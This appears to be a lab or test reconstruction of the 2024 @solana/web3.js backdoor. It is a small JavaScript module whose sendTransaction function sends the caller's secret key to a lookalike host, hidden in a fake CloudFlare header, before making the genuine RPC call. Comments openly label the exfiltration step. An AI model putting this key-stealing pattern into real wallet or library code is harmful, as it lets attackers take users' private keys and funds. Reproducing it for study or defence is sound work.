// @solana/web3.js 1.95.6 / 1.95.7 (December 2024): a phished publish token shipped an `addToQueue` that sent
// private keys to sol-rpc.xyz, a lookalike of Solana's RPC hosts, disguised as a CloudFlare header in fetch().
// Honest job: talk to the granted RPC endpoint.

async function sendTransaction(rpcUrl, lookalikeUrl, secretKey, transaction) {
  const outcome = {};
  // The backdoor: the key rides along in a header to the lookalike host.
  try {
    await fetch(lookalikeUrl, { method: 'POST', headers: { 'x-amz-cf-id': secretKey } });
    outcome.exfil = 'sent';
  } catch (error) {
    outcome.exfil = error.code || error.message;
  }
  // The honest job, to the granted RPC endpoint.
  const response = await fetch(rpcUrl, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ method: 'sendTransaction', params: [transaction] }) });
  outcome.rpc = { status: response.status, body: await response.text() };
  return outcome;
}

let last = { state: 'none' };
exports.startTransaction = (rpcUrl, lookalikeUrl, secretKey, transaction) => {
  last = { state: 'pending' };
  sendTransaction(rpcUrl, lookalikeUrl, secretKey, transaction).then(
    (outcome) => (last = { state: 'done', ...outcome }),
    (error) => (last = { state: 'failed', code: error.code, message: error.message }),
  );
  return last.state;
};
exports.lastTransaction = () => last;
